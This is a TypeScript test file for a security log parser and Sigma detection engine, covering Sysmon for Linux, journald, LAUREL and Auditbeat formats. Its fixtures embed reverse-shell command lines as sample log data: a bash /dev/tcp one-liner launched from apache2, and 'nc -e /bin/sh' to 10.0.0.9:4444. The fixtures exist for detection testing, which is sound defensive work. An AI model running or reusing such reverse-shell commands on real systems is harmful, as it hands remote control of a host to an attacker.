/**
 * Sysmon for Linux (a real recording, and fixtures written from SysmonForLinux's outputxml.cpp),
 * journald exports (`-o json`, `-o export` with a binary field), and the JSON of LAUREL and
 * Auditbeat: each read into the same events as the raw logs they come from.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { RecordError } from '../../src/core/errors.js';
import { Engine } from '../../src/engine/engine.js';
import type { Event } from '../../src/events/event.js';
import { readEventsFromFile } from '../../src/readers/detect.js';
import { LinuxStream } from '../../src/readers/linux/stream.js';
import { loadRules } from '../../src/sigma/collection.js';
import { HAVE_SHARED, REPO, SHARED } from '../helpers.js';
import { auditbeatNc, laurelCurl } from './shipper-docs.js';

const LOG4SHELL = join(SHARED, 'linux/otrf-security-datasets/datasets/compound/Log4Shell/syslog_sysmon_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json');

async function readAll(file: string): Promise<{ events: Event[]; errors: RecordError[] }> {
  const events: Event[] = [];
  const errors: RecordError[] = [];
  for await (const ev of readEventsFromFile(file, { onError: (e) => errors.push(e as RecordError) })) events.push(ev);
  return { events, errors };
}

function tmp(name: string, content: string | Buffer): string {
  const dir = mkdtempSync(join(tmpdir(), 'fb-linux-'));
  const f = join(dir, name);
  writeFileSync(f, content);
  return f;
}

const esc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
/** A Sysmon for Linux event as outputxml.cpp writes it (element order, no namespace, one line). */
function sysmonXml(id: number, data: Record<string, string>, host = 'web1'): string {
  const items = Object.entries(data)
    .map(([k, v]) => `<Data Name="${k}">${esc(v)}</Data>`)
    .join('');
  return `<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>${id}</EventID><Version>5</Version><Level>4</Level><Task>${id}</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2024-03-01T10:00:00.123456000Z"/><EventRecordID>77</EventRecordID><Correlation/><Execution ProcessID="900" ThreadID="900"/><Channel>Linux-Sysmon/Operational</Channel><Computer>${host}</Computer><Security UserId="0"/></System><EventData>${items}</EventData></Event>`;
}
const PROC = {
  RuleName: '-',
  UtcTime: '2024-03-01 10:00:00.120',
  ProcessGuid: '{1-2}',
  ProcessId: '4242',
  Image: '/usr/bin/bash',
  CommandLine: 'bash -c "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"',
  CurrentDirectory: '/tmp',
  User: 'www-data',
  ParentImage: '/usr/sbin/apache2',
  ParentCommandLine: '/usr/sbin/apache2 -k start',
};

describe('Sysmon for Linux: the Log4Shell recording (Sentinel Syslog rows)', { skip: HAVE_SHARED ? false : 'needs ../shared/linux; absent' }, () => {
  it('reads every event, reports the one a size limit cut off, routes each by its EventID', async () => {
    const { events, errors } = await readAll(LOG4SHELL);
    // Independent count: the <EventID> of every row whose XML is closed.
    const rows = readFileSync(LOG4SHELL, 'utf8')
      .split('\n')
      .filter((l) => l.trim())
      .map((l) => (JSON.parse(l) as { SyslogMessage: string }).SyslogMessage);
    const complete = rows.filter((m) => m.trimEnd().endsWith('</Event>'));
    assert.equal(rows.length, 93);
    assert.equal(complete.length, 92);
    const want: Record<string, number> = {};
    for (const m of complete) want[/<EventID>(\d+)<\/EventID>/.exec(m)![1]!] = (want[/<EventID>(\d+)<\/EventID>/.exec(m)![1]!] ?? 0) + 1;
    const got: Record<string, number> = {};
    for (const e of events) got[String(e.eventId)] = (got[String(e.eventId)] ?? 0) + 1;
    assert.deepEqual(got, want);
    assert.deepEqual(
      errors.map((e) => [e.code, e.position.line]),
      [['sysmon-truncated', 8]],
    );
    for (const e of events) {
      assert.equal(e.product, 'linux');
      assert.equal(e.channel, 'Linux-Sysmon/Operational');
      assert.equal(e.computer, 'UBUNTU5');
    }
    // The exploit's reverse shell: SigmaHQ's Linux process-creation rules fire, no Windows rule does.
    const col = loadRules([join(REPO, 'data/sigma/rules/linux'), join(REPO, 'data/sigma/rules/windows/process_creation')]);
    const engine = new Engine(col.rules);
    const hits = events.flatMap((e) => engine.match(e));
    assert.ok(hits.length > 0);
    assert.ok(hits.every((d) => d.rule.logsource.product === 'linux'));
    assert.ok(hits.some((d) => d.rule.title === 'Linux Reverse Shell Indicator'));
  });
});

describe('Sysmon for Linux fixtures (format of outputxml.cpp)', () => {
  it('in a syslog line: fields as Windows Sysmon names them; a line cut by a size limit is reported', async () => {
    const xml = sysmonXml(1, PROC);
    const file = tmp(
      'syslog',
      [
        `Mar  1 10:00:00 web1 sysmon[900]: ${xml}`,
        `Mar  1 10:00:01 web1 sysmon[900]: ${xml.slice(0, xml.length - 30)}`,
        `Mar  1 10:00:02 web1 sysmon: ${sysmonXml(3, { Image: '/usr/bin/curl', DestinationIp: '10.0.0.9', DestinationPort: '4444', Initiated: 'true', Protocol: 'tcp' })}`,
      ].join('\n'),
    );
    const { events, errors } = await readAll(file);
    assert.deepEqual(
      errors.map((e) => [e.code, e.position.line]),
      [['sysmon-truncated', 2]],
    );
    assert.equal(events.length, 2);
    const [p, n] = events;
    assert.deepEqual(
      [p!.eventId, p!.fields.Image, p!.fields.CommandLine, p!.fields.ParentImage, p!.fields.User, p!.computer, p!.fields.TimeCreated_SystemTime],
      [1, '/usr/bin/bash', PROC.CommandLine, '/usr/sbin/apache2', 'www-data', 'web1', '2024-03-01T10:00:00.123456000Z'],
    );
    assert.deepEqual([n!.eventId, n!.fields.DestinationIp], [3, '10.0.0.9']);
  });

  it('in journal entries: -o json (MESSAGE as text or as bytes) and -o export (a binary MESSAGE)', async () => {
    const xml = sysmonXml(11, { Image: '/usr/bin/wget', TargetFilename: '/tmp/x.sh', User: 'root' }, 'web2');
    const base = { __REALTIME_TIMESTAMP: '1709287200123456', _HOSTNAME: 'web2', SYSLOG_IDENTIFIER: 'sysmon', _PID: '900', PRIORITY: '6', SYSLOG_FACILITY: '1' };
    const json = tmp('journal.json', [JSON.stringify({ ...base, MESSAGE: xml }), JSON.stringify({ ...base, MESSAGE: [...Buffer.from(xml)] })].join('\n'));
    const a = await readAll(json);
    assert.deepEqual(a.errors, []);
    assert.deepEqual(
      a.events.map((e) => [e.eventId, e.fields.TargetFilename, e.computer]),
      [
        [11, '/tmp/x.sh', 'web2'],
        [11, '/tmp/x.sh', 'web2'],
      ],
    );
    const msg = Buffer.from(xml + '\nsecond line');
    const size = Buffer.alloc(8);
    size.writeBigUInt64LE(BigInt(msg.length));
    const exp = Buffer.concat([
      Buffer.from('__CURSOR=s=1;i=1\n__REALTIME_TIMESTAMP=1709287200123456\n_HOSTNAME=web2\nSYSLOG_IDENTIFIER=sshd\n_PID=55\nMESSAGE=Accepted password for root from 192.0.2.7 port 1234 ssh2\n\n'),
      Buffer.from('__CURSOR=s=1;i=2\n__REALTIME_TIMESTAMP=1709287201000000\n_HOSTNAME=web2\nSYSLOG_IDENTIFIER=sysmon\nMESSAGE\n'),
      size,
      msg,
      Buffer.from('\n\n'),
    ]);
    const b = await readAll(tmp('journal.export', exp));
    assert.deepEqual(b.errors, []);
    assert.deepEqual(
      b.events.map((e) => [e.channel, e.fields['@timestamp'] ?? e.fields.TimeCreated_SystemTime, e.fields.IpAddress ?? e.fields.TargetFilename]),
      [
        ['linux/sshd', '2024-03-01T10:00:00.123Z', '192.0.2.7'],
        ['Linux-Sysmon/Operational', '2024-03-01T10:00:00.123456000Z', '/tmp/x.sh'],
      ],
    );
  });

  it('journal audit entries (_TRANSPORT=audit) join like audit.log lines', () => {
    const s = new LinuxStream('j');
    const entry = (type: string, msg: string) => ({
      _TRANSPORT: 'audit',
      _HOSTNAME: 'db1',
      _AUDIT_TYPE_NAME: type,
      _AUDIT_ID: '88',
      _SOURCE_REALTIME_TIMESTAMP: '1709287200500000',
      MESSAGE: `${type} ${msg}`,
    });
    const out = [
      ...s.journalEntry(entry('SYSCALL', 'arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=9 auid=1000 uid=1000 ses=3 comm="whoami" exe="/usr/bin/whoami"'), { file: 'j' }),
      ...s.journalEntry(entry('EXECVE', 'argc=1 a0="whoami"'), { file: 'j' }),
      ...s.journalEntry(entry('EOE', ''), { file: 'j' }),
    ] as Event[];
    const p = out.find((e) => e.channel === 'linux/auditd/process_creation');
    assert.deepEqual([p?.fields.Image, p?.fields.CommandLine, p?.computer, p?.fields['@timestamp']], ['/usr/bin/whoami', 'whoami', 'db1', '2024-03-01T10:00:00.500Z']);
  });
});

describe('shipper JSON: LAUREL and Auditbeat give the events the raw records give', () => {
  it('LAUREL: ARGV lists, 0x numbers, percent-encoding, PARENT_INFO', async () => {
    const base = laurelCurl();
    const doc = {
      ...base,
      SYSCALL: { ...base.SYSCALL, key: 'susp_activity', AUID: 'alice', UID: 'root' },
      PATH: [{ ...base.PATH[0], mode: '0o100755' }],
      PROCTITLE: { ARGV: ['curl', '-o', '/tmp/a%20b'] },
      PARENT_INFO: { ID: '1709287100.000:4000', comm: 'bash', exe: '/usr/bin/bash', ppid: 1400 },
    };
    const { events, errors } = await readAll(tmp('laurel.log', JSON.stringify(doc) + '\n'));
    assert.deepEqual(errors, []);
    const p = events.find((e) => e.channel === 'linux/auditd/process_creation')!;
    assert.deepEqual(
      [p.fields.Image, p.fields.CommandLine, p.fields.CurrentDirectory, p.fields.ParentImage, p.fields.User, p.fields.LogonId],
      ['/usr/bin/curl', 'curl -o /tmp/a b', '/root', '/usr/bin/bash', 'root', '1000'],
    );
    const sys = events.find((e) => e.fields.type === 'SYSCALL')!;
    assert.deepEqual([sys.fields.arch, sys.fields.SYSCALL, sys.fields.key], ['c000003e', 'execve', 'susp_activity']);
    assert.equal(events.find((e) => e.fields.type === 'PATH')!.fields.mode, '0100755');
  });

  it('Auditbeat: a joined document, and one with the raw records in event.original', async () => {
    const joined = { ...auditbeatNc(), tags: ['susp_activity'] };
    const raw = {
      '@timestamp': '2024-03-01T10:00:01.000Z',
      host: { name: 'app1' },
      event: {
        module: 'auditd',
        original: [
          'type=SYSCALL msg=audit(1709287201.000:902): arch=c000003e syscall=59 success=yes exit=0 ppid=77 pid=78 auid=1000 uid=0 ses=7 comm="sh" exe="/usr/bin/dash"',
          'type=EXECVE msg=audit(1709287201.000:902): argc=2 a0="sh" a1="-i"',
        ],
      },
      auditd: { message_type: 'syscall', sequence: 902 },
    };
    const { events, errors } = await readAll(tmp('auditbeat.ndjson', [JSON.stringify(joined), JSON.stringify(raw)].join('\n')));
    assert.deepEqual(errors, []);
    const procs = events.filter((e) => e.channel === 'linux/auditd/process_creation');
    assert.deepEqual(
      procs.map((p) => [p.fields.Image, p.fields.CommandLine, p.fields.CurrentDirectory, p.fields.ParentImage, p.computer]),
      [
        ['/usr/bin/nc', 'nc -e /bin/sh 10.0.0.9 4444', '/tmp', undefined, 'app1'],
        ['/usr/bin/dash', 'sh -i', undefined, '/usr/bin/nc', 'app1'],
      ],
    );
    const sys = events.find((e) => e.fields.type === 'SYSCALL')!;
    assert.deepEqual([sys.fields.SYSCALL, sys.fields.key, sys.fields.exe], ['execve', 'susp_activity', '/usr/bin/nc']);
  });
});
